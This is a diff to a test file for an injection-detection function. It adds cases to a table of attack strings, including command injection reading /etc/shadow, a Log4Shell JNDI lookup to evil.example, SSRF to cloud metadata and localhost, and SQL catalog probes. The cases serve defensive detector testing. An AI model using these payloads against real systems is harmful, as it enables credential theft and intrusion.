@@ -108,6 +108,9 @@ describe('injection.probe signatures', () => {
     ['command injection', '/ping', 'host=127.0.0.1%3Bcat%20/etc/shadow', 'cmdi'],
     ['Log4Shell lookup', '/search', 'q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D', 'cmdi'],
     ['SSRF to cloud metadata', '/fetch', 'url=http://169.254.169.254/latest/meta-data/', 'ssrf'],
+    ['a shell path in a plain value', '/run', 'cmd=/bin/sh', 'cmdi'],
+    ['a SQL catalog in a plain value', '/report', 'table=information_schema.tables', 'sqli'],
+    ['a path-only select', '/select/password/from/dual--', '', 'sqli'],
     ['SSRF to localhost', '/webhook', 'target=http%3A%2F%2Flocalhost%3A8080%2Fadmin', 'ssrf'],
   ])('find %s', (_, path, query, expected) => {
     expect(findInjection({ path, query })?.class).toBe(expected)
